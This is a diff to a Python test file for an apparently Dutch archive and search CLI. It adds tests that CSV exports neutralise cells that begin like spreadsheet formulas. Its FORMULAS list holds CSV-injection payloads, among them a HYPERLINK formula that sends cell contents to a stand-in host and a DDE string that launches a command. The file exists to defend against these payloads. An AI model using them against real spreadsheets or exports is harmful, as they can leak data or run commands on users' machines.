@@ -3,12 +3,16 @@ reason, and neither the harvest nor any later `index` stops for it."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from archive.case_parser import parse_date
 from archive.runs import last_run
@@ -17,6 +21,7 @@ from archive.validate import InvalidValue, count, timestamp
 from archive.youtube import NS_VIDEO
 from index.cli import cli
 from index.demo import sample_root
+from index.export import FORMULA_STARTS, to_csv
 from tests.conftest import SEED_CHANNEL
 from tests.fake_youtube import FakeChannel, FakeYouTube
 
@@ -149,3 +154,32 @@ def test_a_caption_hour_of_400_digits_is_one_failed_file_and_the_rest_are_import
     assert "Traceback" not in done.output
     run_log = last_run(data_dir)
     assert run_log is not None and run_log["totals"]["new"] == 4
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_exported_csv_cells_that_start_like_a_formula_are_neutralised(
+        youtube_env: FakeYouTube, seed_channel: FakeChannel) -> None:
+    for video, title in zip(seed_channel.videos, FORMULAS):
+        video.title = title + " impressie"
+    assert run("harvest", "youtube")[0] == 0 and run("index")[0] == 0
+    done = CliRunner().invoke(cli, ["search", "impressie", "--format", "csv", "--limit", "200"])
+    assert done.exit_code == 0, done.output
+    assert all(line.startswith("# ") for line in done.stdout.split("\n")[:4])
+    rows = list(csv.DictReader(io.StringIO(done.stdout.split("\n", 4)[4], newline="")))
+    titles = {row["title"] for row in rows}
+    assert {"'" + f + " impressie" for f in FORMULAS[:4]} <= titles  # (the index trims leading space)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+
+@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.text(max_size=20))
+@settings(deadline=None, max_examples=200)
+def test_no_csv_cell_or_header_line_can_start_a_formula(cells: list[str], query: str) -> None:
+    result = {"kind": "case", "title": cells[0], "url": cells[-1], "companies": cells, "snippet": query}
+    out = to_csv({"query": query, "results": [result], "total": 1})
+    lines = out.splitlines(keepends=True)
+    assert all(line.startswith("# ") for line in lines[:4])
+    rows = list(csv.reader(io.StringIO("".join(lines[4:]), newline="")))
+    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
